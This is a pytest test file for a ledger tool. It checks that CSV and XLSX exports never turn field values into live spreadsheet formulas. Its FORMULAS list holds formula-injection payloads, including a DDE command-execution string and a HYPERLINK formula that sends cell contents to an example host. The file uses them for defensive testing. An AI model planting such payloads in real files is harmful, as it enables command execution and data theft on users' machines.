"""Every format of `list` and `export` that a spreadsheet opens goes through the one table writer: no value
from the files becomes a formula, whatever format is added later."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
import yaml
from helpers import write_ledger

from ledger.output import FORMATS

# Formats no spreadsheet opens as cells; any other format of these commands is read back as cells.
NOT_CELLS = {"table", "json", "ics", "pdf"}
FORMULAS = ("=1+2", "+1+2", "-1+2", "@SUM(A1)", '=HYPERLINK("http://example.org/?"&A1,"单位")', "=cmd|' /C calc'!A0")


def hostile(root: Path) -> Path:
    """Two items whose every text field is a formula, as a colleague's merge request could write them."""
    items = {}
    for n, shift in ((1, 0), (2, 1)):
        values = [FORMULAS[(shift + k) % len(FORMULAS)] for k in range(6)]
        item = {"title": values[0], "category": "duty", "status": "in_progress", "measures": [values[1]],
                "leader": values[2], "owner": values[3], "department": [values[4]], "deadline": "2025-06-30",
                "log": [{"date": "2025-06-01", "note": values[5]}]}  # fmt: skip
        text = yaml.safe_dump(item, allow_unicode=True, sort_keys=False)
        items[f"0{n}.yaml"] = text.replace("'2025-06-30'", "2025-06-30").replace("'2025-06-01'", "2025-06-01")
    return write_ledger(root, items)


def cells(data: bytes) -> list[tuple[str, str]]:
    """Every cell as (its type, its text): xlsx by openpyxl, anything else as delimited text."""
    if data[:2] == b"PK":
        book = openpyxl.load_workbook(io.BytesIO(data))
        return [(c.data_type, str(c.value)) for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.value is not None]  # fmt: skip
    text = data.decode("utf-8-sig")
    delimiter = csv.Sniffer().sniff(text.splitlines()[0], delimiters=",\t;|").delimiter
    return [("s", cell) for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


CASES = [(command, fmt) for command in ("list", "export") for fmt in FORMATS[command] if fmt not in NOT_CELLS]


def test_the_spreadsheet_formats_are_found() -> None:
    assert {("list", "csv"), ("export", "csv"), ("export", "xlsx")} <= set(CASES)


@pytest.mark.parametrize(("command", "fmt"), CASES)
def test_no_value_becomes_a_formula(command: str, fmt: str, tmp_path: Path, cli) -> None:
    root = hostile(tmp_path / "ledger")
    assert cli("validate", root=root).exit_code == 0
    target = tmp_path / f"out.{fmt}"
    into = ["-o", str(target)] if command == "export" else []  # list prints
    done = cli(command, "--format", fmt, *into, "--as-of", "2025-07-01", root=root)
    assert done.exit_code == 0, done.stderr
    data = target.read_bytes() if into else done.stdout.encode("utf-8")
    found = cells(data)
    assert found, "nothing read back"
    assert not [c for c in found if c[0] == "f"], "a formula cell"
    constant = re.compile(r'="(?:[^"]|"")*"')  # ="01": a text Excel keeps as it is (SPEC 3.10), not a formula
    live = [text for _kind, text in found if text and text[0] in "=+-@" and not constant.fullmatch(text)]
    if data[:2] == b"PK":  # xlsx: text cells, with the quote prefix shown by the style
        assert all(kind == "s" for kind, text in found if text and text[0] in "=+-@")
    else:
        assert live == [], live
    texts = " ".join(text for _kind, text in found)
    assert "HYPERLINK" in texts and "SUM(A1)" in texts  # the values are there, as text
